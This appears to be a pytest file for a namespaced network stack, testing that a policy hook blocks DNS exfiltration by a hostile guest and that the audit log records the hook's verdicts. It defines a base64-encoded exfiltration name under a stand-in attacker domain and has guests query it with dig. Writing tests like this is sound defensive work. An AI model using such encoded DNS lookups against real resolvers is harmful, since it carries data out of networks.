"""Attacks on the egress policy by a hostile guest (issue 24), through real guests in namespaces.

Each guest is a real Linux process behind ``aioslirp.spawn`` (its own network namespace, the
kernel's TCP/IP, ``dig`` for DNS); the stack's upstream resolver is a fake DNS server on
127.0.0.1 of the test namespace (an ephemeral port), which notes every question it gets, so
"never reached the upstream" is what the upstream saw. Nothing leaves the test namespace.

* a Python policy hook (sync or async) is asked about names no rule decides: a name it denies
  gets NXDOMAIN with an Extended DNS Error and never reaches the upstream; one it allows does,
  and the audit log says the hook's verdict;
* DNS rebinding: an allowed name whose upstream answer is a private / shared / ULA address does
  not open it under default deny, unless a CIDR allow rule covers it.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import socket
import sys
import textwrap
import threading

import dpkt
import pytest

import aioslirp
from aioslirp import NetworkConfig, Stack
from conftest import need
from guest_helpers import need_tool

pytestmark = pytest.mark.netns

need(os.path.exists("/dev/net/tun"), "/dev/net/tun is missing (load the tun module)")

PIPE = asyncio.subprocess.PIPE
SECRET = "c2VjcmV0.attacker.example"  # base64 of "secret": a name that carries data out


class Upstream:
    """UDP DNS on 127.0.0.1:<ephemeral>: every A question gets ``answers[name]`` (an address,
    TTL 300) or, for a name not in it, 192.0.2.99; notes each question (lower case) in ``asked``."""

    def __init__(self, answers: dict | None = None) -> None:
        self.answers = answers or {}
        self.asked: list[str] = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while True:
            try:
                data, peer = self.sock.recvfrom(4096)
            except OSError:
                return
            if not data:
                return
            try:
                q = dpkt.dns.DNS(data)
                name = q.qd[0].name.lower().rstrip(".")
            except Exception:
                continue
            self.asked.append(name)
            r = dpkt.dns.DNS(id=q.id, qr=dpkt.dns.DNS_R, rd=q.rd, ra=1, qd=q.qd)
            if q.qd[0].type == dpkt.dns.DNS_A:
                addr = self.answers.get(name, "192.0.2.99")
                r.an = [dpkt.dns.DNS.RR(name=q.qd[0].name, type=1, cls=1, ttl=300, ip=socket.inet_aton(addr))]
            self.sock.sendto(bytes(r), peer)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()


@pytest.fixture
def upstream():
    u = Upstream()
    yield u
    u.close()


async def guest_run(stack: Stack, argv: list[str], timeout: float = 60) -> str:
    """Run ``argv`` as a guest of ``stack`` (its own namespaces); its stdout (it must exit 0)."""
    async with aioslirp.spawn(argv, stack=stack, stdout=PIPE, stderr=PIPE) as g:
        out, err = await asyncio.wait_for(g.communicate(), timeout)
    assert g.returncode == 0, (g.returncode, err.decode(errors="replace")[-2000:])
    return out.decode()


def dig(*names: str) -> list[str]:
    """A guest shell running ``dig`` for each name (EDNS on, as dig sends by default)."""
    return ["sh", "-c", "; ".join(f"dig +tries=1 +time=4 A {n}" for n in names)]


def audit_records(buf: io.StringIO) -> list[dict]:
    return [json.loads(line) for line in buf.getvalue().splitlines()]


# ============================================================================ 1. the hook and names


@pytest.mark.parametrize("kind", ["sync", "async"])
async def test_a_hook_denying_every_name_leaves_name_denial_on(kind, upstream):
    """Issue 24 (1): default deny, ``pypi.org:443`` allowed and a hook that denies everything:
    the guest's query for an exfiltration name gets NXDOMAIN + EDE 15 (Blocked) naming the hook,
    the upstream never sees it; the hook was asked about the name (a ``dns`` request); the audit
    log says deny by the hook. Before the fix the query went upstream and was answered."""
    need_tool("dig", "bind9-dnsutils")
    asked = []

    def sync_hook(req):
        asked.append((req.proto, req.name, req.dst, req.port))
        return False, "nothing leaves"

    async def async_hook(req):
        await asyncio.sleep(0.01)
        return sync_hook(req)

    audit = io.StringIO()
    cfg = NetworkConfig(egress_default="deny", egress_allow=["pypi.org:443"],
                        dns_upstreams=[f"127.0.0.1:{upstream.port}"], audit_log=audit)
    stack = Stack(cfg, policy=sync_hook if kind == "sync" else async_hook)
    try:
        out = await guest_run(stack, dig(SECRET))
    finally:
        await stack.aclose()
    assert "status: NXDOMAIN" in out and "EDE: 15 (Blocked): (policy hook: nothing leaves)" in out, out
    assert upstream.asked == []
    assert asked and asked[0] == ("dns", SECRET.lower(), "10.0.2.3", 53)
    assert len(asked) == 1  # the verdict is cached for the name (dig asked once; no retry reached the hook)
    assert stack.counters["egress.dns_blocked"] == 1
    dns = [r for r in audit_records(audit) if r["event"] == "dns"]
    assert [(r["name"], r["verdict"], r["rule"], r["answer"]) for r in dns] == [
        (SECRET.lower(), "deny", "policy hook: nothing leaves", "blocked")]


@pytest.mark.parametrize("kind", ["sync", "async"])
async def test_a_hook_allowing_a_name_lets_it_reach_the_upstream(kind, upstream):
    """The same stack with a hook that allows one name and denies another: the allowed one is
    forwarded and answered (audit: allow, the hook's rule), the other never leaves."""
    need_tool("dig", "bind9-dnsutils")

    def verdict(req):
        return req.name == "ok.attacker.example", "only ok"

    async def async_hook(req):
        return verdict(req)

    audit = io.StringIO()
    cfg = NetworkConfig(egress_default="deny", egress_allow=["pypi.org:443"],
                        dns_upstreams=[f"127.0.0.1:{upstream.port}"], audit_log=audit)
    stack = Stack(cfg, policy=verdict if kind == "sync" else async_hook)
    try:
        out = await guest_run(stack, dig("ok.attacker.example", SECRET))
    finally:
        await stack.aclose()
    first, second = out.split("<<>> DiG")[1:3]
    assert "status: NOERROR" in first and "192.0.2.99" in first, first
    assert "status: NXDOMAIN" in second and "EDE: 15 (Blocked): (policy hook: only ok)" in second, second
    assert upstream.asked == ["ok.attacker.example"]
    dns = [(r["name"], r["verdict"], r["rule"], r["answer"]) for r in audit_records(audit) if r["event"] == "dns"]
    assert dns == [("ok.attacker.example", "allow", "policy hook: only ok", "answered"),
                   (SECRET.lower(), "deny", "policy hook: only ok", "blocked")]
